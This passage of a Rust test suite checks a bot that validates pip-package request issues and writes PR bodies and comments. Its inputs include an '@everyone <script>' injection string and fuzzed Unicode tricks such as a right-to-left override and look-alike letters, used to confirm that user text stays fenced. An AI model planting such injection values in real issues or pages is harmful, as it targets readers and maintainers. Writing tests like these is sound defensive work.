                && !outside.contains("<img"),
            "{line}"
        );
    }
    insta::assert_snapshot!("problems_comment_hostile", text);
}

#[test]
fn the_pull_request_body_keeps_the_why_in_a_code_block() {
    let mut r = request(&["rapidfuzz"], &[], &[], false, "nlp-cpu");
    r.why = "```\n@everyone <script>x</script>\n````".into();
    let p = preview_of(&r);
    let s = comment::pr_body(12, &r, &p);
    assert!(s.contains("requested in #12"), "{s}");
    assert!(
        s.contains("`````text\n```\n@everyone <script>x</script>\n````\n`````\n"),
        "{s}"
    );
    assert!(s.contains("**Adds:** 1 pip package"), "{s}");
    assert!(s.contains(&p.identity));
    assert!(
        !s.to_lowercase().contains("closes #12"),
        "merging must not close the issue before the build"
    );
}

#[test]
fn problems_comments_cut_long_lists() {
    let problems: Vec<Problem> = (0..120)
        .map(|i| {
            Problem::new("Python packages (pip)", "x")
                .at(i + 1)
                .token(&format!("p{i}"), true)
        })
        .collect();
    let text = comment::problems(1, &problems, &[]);
    assert!(text.contains("120 problems stop"), "{text}");
    assert!(text.contains("- … and 70 more\n"), "{text}");
    assert_eq!(
        text.matches("- **Python packages (pip)**, line").count(),
        50
    );
}

mod properties {
    use proptest::prelude::*;

    use super::*;

    fn field() -> impl Strategy<Value = String> {
        prop_oneof![
            proptest::sample::select(
                form::FIELDS
                    .iter()
                    .map(|(_, l, _)| l.to_string())
                    .collect::<Vec<_>>()
            ),
            ".{0,20}",
        ]
    }

    fn value() -> impl Strategy<Value = String> {
        prop_oneof![
            ".{0,80}",
            "[a-z0-9 ;@:/<>=`~#{}%\\-]{0,40}",
            proptest::collection::vec("[ -~\u{200b}\u{202e}\u{430}\r\t]{0,30}", 0..8)
                .prop_map(|lines| lines.join("\n")),
            Just("```\nnumpy\n".to_string()),
        ]
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(300))]

        /// Whatever the issue says: no panic, a request exactly when there
        /// are no problems, and no user text outside code in the comment.
        #[test]
        fn any_body_is_checked_without_panicking(
            fields in proptest::collection::vec((field(), value()), 0..10),
            preamble in ".{0,10}",
        ) {
            let mut text = preamble;
            for (label, value) in &fields {
                text.push_str(&format!("\n### {label}\n\n{value}\n"));
            }
            let catalog = shipped();
            let v = validate(&text, 3, "bob", &catalog, &Limits::default());
            prop_assert_eq!(v.request.is_some(), v.problems.is_empty());
            let comment = match &v.request {
                Some(_) => String::new(),
                None => comment::problems(3, &v.problems, &v.flags),
            };
            prop_assert!(comment.is_empty() || comment.starts_with("<!-- labforge:request -->"));
            let _ = form::parse(&text);
            let _ = command::parse(&text);
        }
    }
}
